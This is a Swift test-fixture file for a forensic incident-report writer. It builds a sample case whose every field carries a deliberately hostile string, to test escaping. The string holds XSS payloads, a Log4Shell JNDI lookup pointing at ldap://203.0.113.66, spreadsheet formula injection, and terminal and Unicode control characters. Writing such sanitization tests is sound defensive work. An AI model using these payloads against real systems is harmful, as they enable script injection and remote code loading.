import Evidence
import Foundation
import Timeline

@testable import Report

/// A small incident whose every text is hostile, and a folder to write it into.
enum ReportSamples {
  /// What an attacker would write to get out of a page, a script, a cell, a terminal and a Markdown file.
  static let hostile =
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'` ${jndi:ldap://203.0.113.66/x} =1+1|\u{1B}[31m\u{202E}\u{0}\u{2028}&lt;"

  static func digest(_ name: String) -> Digest { Digest(of: Array(name.utf8)) }

  static func time(_ second: Int64) -> Timestamp {
    Timestamp(nanoseconds: (1_795_584_000 + second) * 1_000_000_000 + 5_000_000, precision: .millisecond)
  }

  static func event(_ second: Int64?, _ message: String, type: String = "linux:syslog:line", offset: UInt64 = 0)
    -> Event
  {
    Event(
      time: second.map(time), dataType: type, message: message, entities: [Entity(.file, "/tmp/" + message)],
      attributes: [Attribute("line", message), Attribute("pid", 7)],
      locator: Locator(offset: offset, length: 10, line: 1))
  }

  static func finding(_ text: String, offset: UInt64 = 0, rule: String = "log4shell.jndi-lookup") -> Finding {
    Finding(
      rule: rule, title: text, severity: .high, attack: ["T1190", text], firstSeen: time(10),
      entities: [Entity(.address, "203.0.113.66"), Entity(.url, text), Entity(.process, "7"), Entity(.user, text)],
      evidence: [EvidenceReference(artifact: digest("log"), locator: Locator(offset: offset, length: 10, line: 1))],
      message: text,
      attributes: [
        Attribute("decoded", text), Attribute(text, text), Attribute("remote_host", "203.0.113.66"),
        Attribute("remote_port", 1389),
      ])
  }

  static func input(_ text: String = hostile, events: Int = 40) -> CaseInput {
    var all: [(artifact: Digest, event: Event)] = []
    for number in 0..<events {
      all.append((digest("log"), event(Int64(number * 37 % 100), "\(number) \(text)", offset: UInt64(number * 10))))
    }
    all.append((digest("log"), event(nil, text, type: "linux:capture:process", offset: 9000)))
    return CaseInput(
      title: text,
      artifacts: [
        ArtifactRecord(
          digest: digest("log"), paths: ["var/log/" + text], size: 99, kind: text,
          times: [FileTime(.modification, time(3))], digests: ["md5": "00"]),
        ArtifactRecord(digest: digest("other"), paths: ["b", "a"], size: 1),
      ],
      events: EventList(all), findings: [finding(text), finding(text, offset: 10, rule: "yara:" + text)],
      coverage: [
        CoverageRecord(artifact: digest("log"), coverage: Coverage(.skipped, 0..<99, reason: text), analyzer: text)
      ], tool: ToolFacts(version: "1", rules: [text: "ff"]))
  }

  /// Writes the input and hands the folder to the body; removed afterwards.
  static func written(
    _ input: CaseInput, _ options: ReportOptions = ReportOptions(), _ body: (String) throws -> Void
  ) throws {
    let folder = NSTemporaryDirectory() + "report-" + UUID().uuidString
    defer { try? FileManager.default.removeItem(atPath: folder) }
    try ReportWriter.write(input, to: folder, options: options)
    try body(folder)
  }

  static func read(_ folder: String, _ name: String) throws -> String {
    String(decoding: try Data(contentsOf: URL(fileURLWithPath: folder + "/" + name)), as: UTF8.self)
  }

  static func lines(_ folder: String, _ name: String) throws -> [[String: Any]] {
    try read(folder, name).split(separator: "\n").compactMap {
      try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any]
    }
  }
}
